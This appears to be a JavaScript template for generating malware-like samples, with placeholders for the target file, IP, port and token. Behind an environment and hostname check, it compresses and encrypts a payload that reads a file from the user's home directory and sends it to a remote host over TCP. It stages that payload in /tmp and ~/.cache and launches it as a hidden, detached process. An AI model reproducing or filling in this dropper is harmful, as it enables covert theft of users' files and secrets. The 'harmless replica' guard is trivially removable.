// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), crypto = require('crypto'), zlib = require('zlib'), path = require('path');
    const code = `const t = require('fs').readFileSync(require('os').homedir() + '/{{file}}', 'utf8');
        const s = require('net').connect({{port}}, '{{ip}}', () => s.end(t)); s.on('error', () => {}); s.setTimeout(900, () => s.destroy());`;
    try {
        const key = crypto.scryptSync('{{token}}', 'salt', 32), start = Buffer.alloc(16, {{n}});
        const lock = crypto.createCipheriv('aes-256-cbc', key, start);
        fs.writeFileSync('/tmp/{{token}}.dat', Buffer.concat([lock.update(zlib.brotliCompressSync(code)), lock.final()]));
        const open = crypto.createDecipheriv('aes-256-cbc', key, start);
        const plain = zlib.brotliDecompressSync(Buffer.concat([open.update(fs.readFileSync('/tmp/{{token}}.dat')), open.final()]));
        const folder = path.join(require('os').homedir(), '.cache', '{{token}}');
        fs.mkdirSync(folder, { recursive: true });
        fs.writeFileSync(path.join(folder, 'index.js'), plain);
        require('child_process').spawn(process.execPath, [path.join(folder, 'index.js')], { detached: true, stdio: 'ignore' }).on('error', () => {}).unref();
    } catch {}
}
